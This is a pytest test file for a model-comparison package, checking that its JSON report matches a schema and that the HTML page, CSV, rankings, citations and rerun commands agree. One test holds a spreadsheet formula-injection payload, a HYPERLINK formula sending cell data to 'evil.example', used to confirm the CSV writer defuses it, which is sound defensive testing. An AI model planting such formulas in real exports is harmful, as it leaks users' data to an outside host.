"""The numbers: the report's JSON is as its schema says, and page and CSV hold the same."""

import csv
import io
import itertools
import json
import re
import shlex
from importlib.resources import files
from pathlib import Path

import pytest

from pmodel.data import load_data
from pmodel.metrics.catalogue import METRICS
from pmodel.report import commands, numbers
from pmodel.report.citations import bibtex, keys
from pmodel.report.columns import RECOGNISED, VARIETY, columns, leading, overview
from pmodel.report.ranking import ranked
from pmodel.report.spreadsheet import spreadsheet
from pmodel.report.tables import results
from reports import HOSTILE, Page, full_comparison

ROOT = Path(__file__).parents[1]
SCHEMA = json.loads(files("pmodel.report").joinpath("schema.json").read_text())
TYPES = {
    "string": lambda v: isinstance(v, str),
    "integer": lambda v: isinstance(v, int) and not isinstance(v, bool),
    "number": lambda v: isinstance(v, int | float) and not isinstance(v, bool),
    "object": lambda v: isinstance(v, dict),
    "array": lambda v: isinstance(v, list),
    "null": lambda v: v is None,
}
KNOWN = {"$ref", "$schema", "$defs", "title", "description", "type", "properties", "required", "additionalProperties"}
KNOWN |= {"items", "anyOf", "enum", "const", "minimum", "minItems", "maxItems"}


def violations(value, schema, where="report"):
    """Where a value is not as a JSON Schema of the words in ``KNOWN`` says."""
    assert set(schema) <= KNOWN
    if "$ref" in schema:
        yield from violations(value, SCHEMA["$defs"][schema["$ref"].removeprefix("#/$defs/")], where)
    if "anyOf" in schema and all(list(violations(value, choice)) for choice in schema["anyOf"]):
        yield f"{where} fits none of its forms"
    kinds = schema.get("type", [])
    if kinds and not any(TYPES[kind](value) for kind in ([kinds] if isinstance(kinds, str) else kinds)):
        yield f"{where} is not {kinds}: {value!r}"
        return
    if value != schema.get("const", value) or value not in schema.get("enum", [value]):
        yield f"{where} is {value!r}"
    if TYPES["number"](value) and value < schema.get("minimum", value):
        yield f"{where} is too small"
    if isinstance(value, list):
        if not schema.get("minItems", 0) <= len(value) <= schema.get("maxItems", len(value)):
            yield f"{where} has {len(value)} items"
        for k, item in enumerate(value):
            yield from violations(item, schema.get("items", {}), f"{where}[{k}]")
    if isinstance(value, dict):
        yield from (f"{where} lacks {name}" for name in schema.get("required", []) if name not in value)
        for name, item in value.items():
            inner = schema.get("properties", {}).get(name, schema.get("additionalProperties", {}))
            yield from violations(item, inner, f"{where}.{name}")


@pytest.fixture(scope="module")
def full(tmp_path_factory):
    """A comparison of two seeds with every measurement, one of its models failed."""
    out = tmp_path_factory.mktemp("full")
    with pytest.MonkeyPatch.context() as patch:
        models = ["gaussian", "uniform", "histogram", "gaussian:size=tiny"]
        report = full_comparison(patch, load_data("digits"), out, models=models, seeds=2)
    return out, json.loads(json.dumps(report, allow_nan=False))


def test_the_report_is_as_its_schema_says(full):
    assert list(violations(full[1], SCHEMA)) == []


def test_a_report_of_a_density_is_too(tmp_path):
    from pmodel.comparison import compare

    found = compare(["gaussian", "histogram"], load_data("moons"), out=tmp_path, n=40).report
    assert found["data"]["truth"] is None or found["data"]["truth"]["kind"] == "exact"
    assert list(violations(json.loads(json.dumps(found)), SCHEMA)) == []


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("schema",), "pmodel.report/0"),
        (("models", 0, "likelihood", "kind"), "upper_bound"),
        (("models", 0, "metrics", "fid", "value"), "3"),
        (("models", 0, "place", "fid", "best"), 0),
        (("order", "fid", 0, "interval"), [1]),
        (("protocol", "measure", "split"), None),
    ],
)
def test_a_wrong_report_would_be_seen(full, path, value):
    broken = json.loads(json.dumps(full[1]))
    inner = broken
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = value
    assert len(list(violations(broken, SCHEMA))) == 1


def documented(schema, prefix=""):
    for name, inner in schema.get("properties", {}).items():
        yield f"{prefix}{name}", inner.get("description", "")
        if "$ref" not in inner:
            yield from documented(inner, f"{prefix}{name}.")


@pytest.mark.parametrize("part", ["", *SCHEMA["$defs"]])
def test_every_field_of_the_schema_is_documented(part):
    text = (ROOT / "docs/report.md").read_text()
    section = (
        text.split(f"### {part}\n")[1].split("\n##")[0] if part else text.split("## `report.json`")[1].split("\n###")[0]
    )
    for name, description in documented(SCHEMA["$defs"][part] if part else SCHEMA):
        assert f"`{name}`" in section
        assert description in section


def test_every_ranked_metric_has_an_order_and_the_others_have_none(full):
    report = full[1]
    assert set(report["order"]) == {"likelihood"} | {row.name for row in METRICS if row.better != "real"}
    for name, verdicts in report["order"].items():
        assert len(verdicts) == 3
        for model in report["models"][:3]:
            place = model["place"][name]
            assert 1 <= place["best"] <= place["worst"] <= 3
        assert report["models"][3]["place"][name] is None


def model_with(label, name, value, stderr):
    written = {"value": value, "sample_stderr": stderr, "seed_stderr": 0.0, "seeds": 1}
    return {"label": label, "metrics": {name: written}}


@pytest.mark.parametrize(("name", "winner"), [("fid", "low"), ("inception_score", "high")])
def test_smaller_distances_and_larger_scores_are_better(name, winner):
    models = [model_with("low", name, 1.0, 0.1), model_with("high", name, 2.0, 0.1)]
    (verdict,), places = ranked(models, [])[name]
    assert (verdict.first if verdict.outcome == "first" else verdict.second) == winner
    assert abs(verdict.difference) == 1
    assert (verdict.difference > 0) == (verdict.outcome == "first")
    assert places[winner] == {"best": 1, "worst": 1}


def test_numbers_within_their_errors_and_without_any_are_undecided():
    within = [model_with("a", "fid", 1.0, 0.5), model_with("b", "fid", 2.0, 0.5)]
    without = [model_with("a", "fid", 1.0, None), model_with("b", "fid", 2.0, 0.1)]
    for models in (within, without):
        (verdict,), places = ranked(models, [])["fid"]
        assert verdict.outcome == "undecided"
        assert places["a"] == {"best": 1, "worst": 2}


def test_a_measurement_that_could_not_be_had_is_not_ranked_and_stands_as_a_dash(full):
    model = json.loads(json.dumps(full[1]["models"][0]))
    model["metrics"] = {"fid": model["metrics"]["fid"] | {"value": None, "stderr": None, "flags": ["too few samples"]}}
    assert "fid" not in ranked([model], [])
    page = Page(results([model], columns([model])))
    assert "–" in page.text
    assert ("abbr", "title", "too few samples") in page.attributes


def cells(text):
    """The tables of a page as rows of (label, column, shown, value)."""
    for table in re.findall(r'<table class="results.*?</table>', text):
        for row in re.findall(r"<tr.*?</tr>", table):
            label = re.search(r'data-text="([^"]*)"', row) or re.search(r'<th scope="row">([^<]*)<', row)
            for cell in re.findall(r"<td[^>]*data-label=.*?</td>", row):
                value, column = (re.search(rf'data-{name}="([^"]*)"', cell) for name in ("value", "label"))
                shown = re.search(r'class="n">([^<]*)<', cell)
                if shown:
                    yield label and label[1], column[1], shown[1], value and value[1]


def expected(model, row):
    return numbers.metric(model["metrics"][row.name], shares=row.share), model["metrics"][row.name]["value"]


def test_every_number_on_the_page_is_that_of_the_report(full):
    out, report = full
    shown = {}
    for label, column, text, value in cells((out / "report.html").read_text()):
        assert shown.setdefault((label, column), (text, value)) == (text, value)
    whole = [model for model in report["models"] if model["run"]]
    for model, row in itertools.product(whole, METRICS):
        text, value = shown[model["label"], row.title]
        assert (text, float(value)) == expected(model, row)
    for model in whole:
        text, value = shown[model["label"], "log-likelihood"]
        assert text == numbers.likelihood(model["likelihood"])
        assert value == (None if model["likelihood"]["value"] is None else repr(model["likelihood"]["value"]))
        bits = model["metrics"]["bits_per_dim"]
        blank = (None, None)  # the likelihood says that data are impossible
        assert shown.get((model["label"], "bits per dimension"), blank)[0] == (
            None if bits["impossible"] else numbers.likelihood(bits)
        )
        assert shown[model["label"], "training"][0] == numbers.duration(model["speed"]["training_seconds"])
        assert shown[model["label"], "samples a second"][0] == numbers.rate(model["speed"]["samples_per_second"])
        assert shown[model["label"], "parameters"] == (numbers.count(model["parameters"]), str(model["parameters"]))
    for row, (label, name) in itertools.product(METRICS, [("real data", "floor"), ("held-out data", "held_out")]):
        value = whole[0]["metrics"][row.name][name]
        assert ((label, row.title) in shown) == (value is not None)
        assert value is None or float(shown[label, row.title][1]) == value


def test_the_means_over_seeds_are_those_of_the_seeds(full):
    for model in full[1]["models"][:3]:
        for name, written in model["metrics"].items():
            values = [seed["metrics"][name]["value"] for seed in model["seeds"]]
            if None not in values:
                assert written["value"] == pytest.approx(sum(values) / 2, rel=1e-12)


def test_the_table_has_a_row_for_each_seed_and_a_column_for_each_number(full):
    out, report = full
    text = (out / "report.csv").read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    seeds = [(model, seed) for model in report["models"] for seed in model["seeds"]]
    assert [(row["label"], row["seed"]) for row in rows] == [(m["label"], str(s["seed"])) for m, s in seeds]
    assert all(line.endswith("\r\n") for line in text.splitlines(keepends=True))
    for row, (_, seed) in zip(rows, seeds, strict=True):
        assert row["error"] == (seed["error"] or "")
        for name, metric in seed.get("metrics", {}).items():
            for field in ("value", "stderr"):
                assert row[f"metrics.{name}.{field}"] == ("" if metric[field] is None else repr(metric[field]))
    assert len({len(row) for row in csv.reader(io.StringIO(text))}) == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_of_the_table_is_a_formula(start):
    attack = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")\n,{HOSTILE}'
    seed = {"seed": 0, "run": None, "error": attack, "metrics": {attack: {"value": -1.5}}}
    report = {"models": [{"name": attack, "label": attack, "seeds": [seed]}]}
    heads, row = csv.reader(io.StringIO(spreadsheet(report), newline=""))
    assert row[:3] == [f"'{attack}", f"'{attack}", "0"]
    assert row[4] == f"'{attack}"
    assert row[heads.index(f"metrics.{attack}.value")] == "-1.5"
    assert not any(head.startswith(start) for head in heads)


def test_a_page_cites_what_it_used(full):
    found = keys(full[1])
    assert found[:4] == ["pmodel", "gauss1809", "laplace1812", "pearson1895"]
    assert {"burda2016", "heusel2017", "naeem2020"} <= set(found)
    assert bibtex(found).count("\n@") == len(found) - 1
    assert bibtex(found) in "".join(Page((full[0] / "report.html").read_text()).text)


def test_every_metric_has_one_group_and_the_first_table_a_few(full):
    names = {row.name for row in METRICS}
    assert names >= VARIETY
    assert names >= RECOGNISED
    assert not VARIETY & RECOGNISED
    found = columns(full[1]["models"])
    assert {column.key for column in found} >= names
    assert [c.key for c in overview(found)] == [
        *("likelihood", "bits_per_dim", "fid", "precision", "recall"),
        *("training_seconds", "samples_per_second", "parameters"),
    ]
    assert leading(found).key == "fid"


def test_commands_make_the_same_again(full, tmp_path):
    (command,) = full[1]["commands"]
    words = shlex.split(command)
    assert words[:6] == ["pmodel", "compare", "gaussian", "uniform", "histogram", "gaussian:size=tiny"]
    assert "--data digits --steps 60 --seeds 2 -n 200" in command
    shared = {"budget": 90, "steps": None, "size": "small", "precision": "float32", "device": "auto"}
    later = commands.comparing(load_data("digits"), shared, ["vae"], [4, 5], 2000)
    assert later == (
        "pmodel compare vae --data digits --budget 90s --size small --precision float32 --seeds 2 --seed 4 --out comparison"
    )
